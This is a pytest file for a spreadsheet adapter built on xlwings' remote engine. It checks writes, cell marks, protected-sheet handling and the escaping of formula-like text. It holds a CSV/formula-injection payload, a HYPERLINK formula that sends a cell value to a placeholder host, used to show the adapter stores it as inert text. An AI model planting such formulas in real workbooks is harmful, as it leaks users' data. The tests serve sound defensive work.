"""The live-workbook adapter on xlwings' remote engine, against real files (no Excel).

A workbook file -> the JSON payload an xlwings client sends -> ``xw.Book(json=...)``
-> the adapter -> ``book.json()`` actions -> replayed onto the file -> read back with openpyxl.
"""

from __future__ import annotations

import datetime as dt

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.styles import PatternFill
from openpyxl.worksheet.table import Table

from mvo_xl import contract as c
from mvo_xl import palette
from mvo_xl.edits import Cell, CellMark, ColumnWrite, SheetOutput, WorkbookEdits
from mvo_xl.excel import adapter
from tests.xlwings_remote import UnknownAction, apply_actions, ensure_remote_engine, payload_from_file

xw = pytest.importorskip("xlwings")

HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'
USER_FILL = "00B050"


@pytest.fixture(autouse=True)
def _license(monkeypatch):
    monkeypatch.setenv("XLWINGS_LICENSE_KEY", "noncommercial")
    ensure_remote_engine()


def _text(cell, value):
    cell.value = value
    cell.data_type = "s"


@pytest.fixture()
def workbook(tmp_path):
    """Droombeelden with its table (shifted to B3 so addresses are not trivially A1-based) and a user fill."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Instructies"
    ws["B1"] = "Lees mij"
    ws = wb.create_sheet("Droombeelden")
    ws["A1"] = "Droombeelden"
    headers = list(c.TABLES_BY_KEY["wishes"].headers)
    rows = [
        ["DB-001", "Mobiliteit", "Meer fietsenstallingen aan het station", "An", None, None, None, None],
        ["DB-002", "Mobiliteit", HOSTILE, "Bart", None, None, "G9", None],
        [None, "Energie", "Zonnepanelen op elk gebouw", None, None, None, None, None],
        ["DB-004", "Energie", "2030", "Cas", None, None, None, None],
    ]
    for j, header in enumerate(headers):
        ws.cell(row=3, column=2 + j, value=header)
    for i, row in enumerate(rows):
        for j, value in enumerate(row):
            if value is not None:
                _text(ws.cell(row=4 + i, column=2 + j), value)
    ws.cell(row=7, column=9).value = dt.datetime(2027, 6, 30)  # a date inside the table (I7)
    ws.cell(row=7, column=9).number_format = "dd/mm/yyyy"
    ws.add_table(Table(displayName="tblDroombeelden", ref=f"B3:I{3 + len(rows)}"))
    ws["K2"].fill = PatternFill("solid", fgColor=USER_FILL)  # the user's own formatting, never touched
    ws["D6"].fill = PatternFill("solid", fgColor="FFFF00")  # user fill on a cell the tool will mark
    path = tmp_path / "in.xlsx"
    wb.save(path)
    return path


def _book(path):
    return xw.Book(json=payload_from_file(path))


def _fill(cell) -> str:
    if cell.fill is None or cell.fill.fill_type != "solid":
        return ""
    return str(cell.fill.fgColor.rgb)[-6:].upper()


def test_the_payload_has_tables_and_the_engine_is_remote(workbook):
    book = _book(workbook)
    assert adapter.engine_name(book) == "remote"
    assert [t.name for t in book.sheets["Droombeelden"].tables] == ["tblDroombeelden"]


def test_read_raw_workbook(workbook):
    raw = adapter.read_raw_workbook(_book(workbook))
    assert raw.source == "in.xlsx"
    assert raw.sheets == ["Instructies", "Droombeelden"]
    table = raw.tables["tblDroombeelden"]
    assert (table.sheet, table.ref) == ("Droombeelden", "B3:I7")
    assert table.headers == list(c.TABLES_BY_KEY["wishes"].headers)
    assert [r for r, _ in table.rows] == [4, 5, 6, 7]
    assert table.rows[0][1][:3] == ["DB-001", "Mobiliteit", "Meer fietsenstallingen aan het station"]
    assert table.rows[1][1][2] == HOSTILE  # text, as typed
    assert table.rows[1][1][6] == "G9"
    assert table.rows[3][1][7] == dt.datetime(2027, 6, 30)
    assert table.rows[2][1][0] is None  # an empty cell
    assert table.rows[3][1][2] == "2030"
    assert table.first_row == 3 and table.first_col == 2


def _edits(marks):
    return WorkbookEdits(
        column_writes=[
            ColumnWrite("wishes", "Groep", {4: "G1", 5: "G1", 7: "G2"}),  # two runs: 4-5 and 7
            ColumnWrite("wishes", "Groepslabel", {4: HOSTILE, 5: "-min", 7: "+plus"}),
            ColumnWrite("wishes", "ID", {6: "DB-003"}),
        ],
        sheets=[SheetOutput(
            name="Controle",
            rows=[
                [Cell("Controle", style="title")],
                [Cell("Code", style="header"), Cell("Cel", style="header"), Cell("Melding", style="header")],
                [Cell("MVO032", style="fout"), Cell("D6", link="'Droombeelden'!D6"), Cell(HOSTILE, style="fout")],
                [Cell("MVO034", style="info"), Cell("@SUM(1)"), Cell("2030"), Cell(3)],
            ],
            column_widths=[10, 8, 60],
            freeze="A3",
            header_row=2,
        )],
        marks=marks,
        activate="Controle",
    )


def _run(path_in, edits, path_out):
    book = _book(path_in)
    adapter.apply_edits(book, edits)
    actions = book.json()["actions"]
    return apply_actions(path_in, actions, path_out), actions


def test_apply_edits_then_unmark(workbook, tmp_path):
    marks = [
        CellMark("Droombeelden", "D6", "fout", "Dit droombeeld is leeg."),
        CellMark("Droombeelden", "D6", "info", "Tweede melding."),
        CellMark("Droombeelden", "C5", "waarschuwing", "Onbekend thema."),
    ]
    out, actions = _run(workbook, _edits(marks), tmp_path / "out.xlsx")
    # few bulk writes: one per run of rows, one for the whole output sheet
    set_values = [a for a in actions if a["func"] == "setValues"]
    # Groep (runs 4-5 and 7) + Groepslabel (same runs) + ID + the whole Controle sheet + the mark registry
    assert len(set_values) == 2 + 2 + 1 + 1 + 1
    wb = load_workbook(out)
    ws = wb["Droombeelden"]
    assert [ws.cell(row=r, column=6).value for r in range(4, 8)] == ["G1", "G1", None, "G2"]  # Groep = column F
    for address, expected in (("G4", HOSTILE), ("G5", "-min"), ("G7", "+plus")):
        assert ws[address].value == expected and ws[address].data_type == "s"
    assert ws["B6"].value == "DB-003"
    assert ws["H5"].value == "G9"  # Groep (handmatig) untouched
    # the output sheet
    assert wb.sheetnames[:3] == ["Instructies", "Droombeelden", "Controle"]
    out_ws = wb["Controle"]
    assert out_ws["A1"].value == "Controle" and out_ws["A1"].font.b
    assert out_ws["C3"].value == HOSTILE and out_ws["C3"].data_type == "s"
    assert out_ws["B4"].value == "@SUM(1)" and out_ws["B4"].data_type == "s"
    assert out_ws["C4"].value == "2030" and isinstance(out_ws["C4"].value, str)
    assert out_ws["D4"].value == 3
    assert out_ws["B3"].value == "D6" and out_ws["B3"].hyperlink.location == "'Droombeelden'!D6"
    assert _fill(out_ws["A2"]) == palette.ACCENT and _fill(out_ws["A3"]) == palette.FOUT_FILL
    assert out_ws.freeze_panes == "A3"
    assert abs(out_ws.column_dimensions["C"].width - 60) < 0.5
    assert wb.active.title == "Controle"
    # marks
    assert _fill(ws["D6"]) == palette.FOUT_FILL
    assert "FOUT: Dit droombeeld is leeg." in ws["D6"].comment.text
    assert "INFO: Tweede melding." in ws["D6"].comment.text
    assert _fill(ws["C5"]) == palette.WAARSCHUWING_FILL
    assert wb[adapter.MARKS_SHEET].sheet_state == "veryHidden"
    assert _fill(ws["K2"]) == USER_FILL

    # second run: no marks -> the tool's marks are gone, the user's fill elsewhere untouched
    again, _ = _run(out, WorkbookEdits(marks=[]), tmp_path / "again.xlsx")
    wb = load_workbook(again)
    ws = wb["Droombeelden"]
    assert _fill(ws["C5"]) == "" and ws["C5"].comment is None
    assert ws["D6"].comment is None
    # The remote engine cannot read a fill, so the user's yellow under the mark is not known and the mark is
    # cleared to no fill (the classic engine reads and restores it; see mvo_xl.excel.adapter).
    assert _fill(ws["D6"]) == ""
    assert _fill(ws["K2"]) == USER_FILL
    assert wb[adapter.MARKS_SHEET].sheet_state == "veryHidden"
    assert [r for r in wb[adapter.MARKS_SHEET].iter_rows(min_row=2, values_only=True) if any(r)] == []
    assert ws["G4"].value == HOSTILE  # values untouched by unmarking


def test_remarking_keeps_a_note_the_user_wrote(workbook, tmp_path):
    wb = load_workbook(workbook)
    from openpyxl.comments import Comment

    wb["Droombeelden"]["E4"].comment = Comment("Mijn eigen notitie", "gebruiker")
    wb.save(workbook)
    out, _ = _run(workbook, WorkbookEdits(marks=[CellMark("Droombeelden", "E4", "info", "x")]),
                  tmp_path / "o.xlsx")
    again, _ = _run(out, WorkbookEdits(marks=[]), tmp_path / "a.xlsx")
    for path in (out, again):
        assert load_workbook(path)["Droombeelden"]["E4"].comment.text == "Mijn eigen notitie"


def test_rerunning_an_output_sheet_replaces_it_in_place(workbook, tmp_path):
    first, _ = _run(workbook, _edits(None), tmp_path / "1.xlsx")
    second_edits = WorkbookEdits(sheets=[SheetOutput("Controle", [[Cell("Alles in orde")]])])
    second, _ = _run(first, second_edits, tmp_path / "2.xlsx")
    ws = load_workbook(second)["Controle"]
    assert ws["A1"].value == "Alles in orde"
    assert ws["C3"].value is None and ws["B3"].hyperlink is None


def test_a_missing_column_is_reported(workbook):
    book = _book(workbook)
    with pytest.raises(adapter.AdapterError, match="Bestaat niet.*tblDroombeelden.*Droombeelden"):
        adapter.apply_edits(book, WorkbookEdits(column_writes=[ColumnWrite("wishes", "Bestaat niet", {4: 1})]))


def test_the_harness_fails_loudly_on_unknown_actions(workbook, tmp_path):
    with pytest.raises(UnknownAction):
        apply_actions(workbook, [{"func": "somethingNew", "args": []}], tmp_path / "x.xlsx")


def test_without_the_apostrophe_excel_would_make_a_formula(workbook, tmp_path):
    """The harness is strict enough to catch an adapter that forgets the text prefix."""
    action = {"func": "setValues", "values": [[HOSTILE]], "args": [None], "sheet_position": 1,
              "start_row": 0, "start_column": 0, "row_count": 1, "column_count": 1}
    ws = load_workbook(apply_actions(workbook, [action], tmp_path / "x.xlsx"))["Droombeelden"]
    assert ws["A1"].data_type == "f"


@pytest.mark.parametrize("text, prefixed", [
    ("=1+1", True), ("+32 2 123", True), ("-min", True), ("@x", True), ("\tx", True), ("'quoted", True),
    ("2030", True), ("1,5", True), ("12/3", True), ("TRUE", True), ("10:30", True),
    ("DB-001", False), ("Meer fietsen", False), ("Q3 2027", False), ("", False),
])
def test_text_prefix(text, prefixed):
    assert adapter.needs_text_prefix(text) is prefixed
    assert adapter.xl_value(text) == (("'" + text) if prefixed else text)


def test_an_optional_missing_column_is_skipped_and_rows_get_their_heights(workbook, tmp_path):
    """An older workbook without a tool column of Prioriteiten: the button goes on; an output sheet's
    wrapped rows get the heights of mvo_xl.layout, as the file writer gives them."""
    from mvo_xl import layout

    long = "Een melding die zo lang is dat ze over meerdere regels loopt in een smalle kolom. " * 3
    out = SheetOutput("Controle", [[Cell("Controle", style="title")], [Cell(long, style="wrap")]],
                      column_widths=[30])
    edits = WorkbookEdits(column_writes=[ColumnWrite("wishes", "Bestaat niet", {4: "x"}, optional=True)],
                          sheets=[out])
    written, _ = _run(workbook, edits, tmp_path / "uit.xlsx")
    ws = load_workbook(written)["Controle"]
    expected = layout.estimate_row_heights(out)
    assert expected[2] > 40
    assert ws.row_dimensions[2].height == expected[2] and ws.row_dimensions[1].height == expected[1]


@pytest.mark.parametrize("protected, edits", [
    ("Droombeelden", WorkbookEdits(column_writes=[ColumnWrite("wishes", "Groep", {4: "G1"})])),
    ("Droombeelden", WorkbookEdits(marks=[CellMark("Droombeelden", "D6", "fout", "Leeg.")])),
    ("Controle", WorkbookEdits(column_writes=[ColumnWrite("wishes", "Groep", {4: "G1"})],
                               sheets=[SheetOutput("CONTROLE", [[Cell("x")]])])),
])
def test_a_protected_sheet_is_named_before_anything_is_written(workbook, tmp_path, monkeypatch, protected, edits):
    """Excel refuses every write to a protected sheet (Controleren > Blad beveiligen): the button says which
    sheet before it writes anything, never a half-done run and 'Er ging iets mis'. The remote engine cannot
    tell protection, so the engine's answer is stood in for here."""
    wb = load_workbook(workbook)
    wb.create_sheet("Controle")
    wb.save(workbook)
    monkeypatch.setattr(adapter, "_protected", lambda sheet: sheet.name == protected)
    book = _book(workbook)
    with pytest.raises(adapter.AdapterError, match=f"'{protected}' is beveiligd"):
        adapter.apply_edits(book, edits)
    assert book.json()["actions"] == []


def test_a_protected_workbook_structure_is_named_before_a_sheet_is_added(workbook, monkeypatch):
    """Controleren > Werkmap beveiligen: no sheet can be added or renamed, so the button says so first.
    An existing output sheet is rebuilt in place, which such a workbook allows."""
    monkeypatch.setattr(adapter, "_structure_protected", lambda book: True)
    book = _book(workbook)
    with pytest.raises(adapter.AdapterError, match="Werkmap beveiligen.*'Controle'"):
        adapter.apply_edits(book, WorkbookEdits(column_writes=[ColumnWrite("wishes", "Groep", {4: "G1"})],
                                                sheets=[SheetOutput("Controle", [[Cell("x")]])]))
    assert book.json()["actions"] == []
    book = _book(workbook)
    adapter.apply_edits(book, WorkbookEdits(column_writes=[ColumnWrite("wishes", "Groep", {4: "G1"})]))
    assert [a["func"] for a in book.json()["actions"]] == ["setValues"]


def test_a_merged_cell_over_a_tool_column_is_written_as_the_file_writer_writes_it(workbook, tmp_path, monkeypatch):
    """F5:G5 merged over Groep and Groepslabel (a user's note made to span two columns). Excel refuses a value
    for part of a merged range, so one bulk write of G4:G7 would stop the button halfway; like the file writer,
    the merged range's first cell (F5) is written and a covered cell (G5) stays empty. The remote engine
    cannot say which cells are merged: the classic engine's answers are stood in for here."""
    area = {(5, 6), (5, 7)}  # F5:G5

    def merge_cells(rng):  # as Excel's Range.MergeCells: True all merged, False none, None partly
        cells = {(r, col) for r in range(rng.row, rng.row + rng.shape[0])
                 for col in range(rng.column, rng.column + rng.shape[1])}
        return True if cells <= area else (None if cells & area else False)

    monkeypatch.setattr(adapter, "_merge_cells", merge_cells)
    monkeypatch.setattr(adapter, "_merge_start", lambda rng: (5, 6) if (rng.row, rng.column) in area
                        else (rng.row, rng.column))
    edits = WorkbookEdits(column_writes=[ColumnWrite("wishes", "Groep", {4: "G1", 5: "G2", 6: "G3"}),
                                         ColumnWrite("wishes", "Groepslabel", {4: "a", 5: "b", 6: "c", 7: "d"})])
    out, actions = _run(workbook, edits, tmp_path / "uit.xlsx")
    ws = load_workbook(out)["Droombeelden"]
    assert [ws[f"F{r}"].value for r in range(4, 7)] == ["G1", "G2", "G3"]
    assert [ws[f"G{r}"].value for r in range(4, 8)] == ["a", None, "c", "d"]
    written = [(a["start_row"] + 1, a["start_column"] + 1, a["row_count"]) for a in actions if a["func"] == "setValues"]
    assert (6, 7, 2) in written  # rows without merged cells stay one write
    assert not any(col == 7 and row <= 5 < row + n for row, col, n in written)  # nothing sent to G5
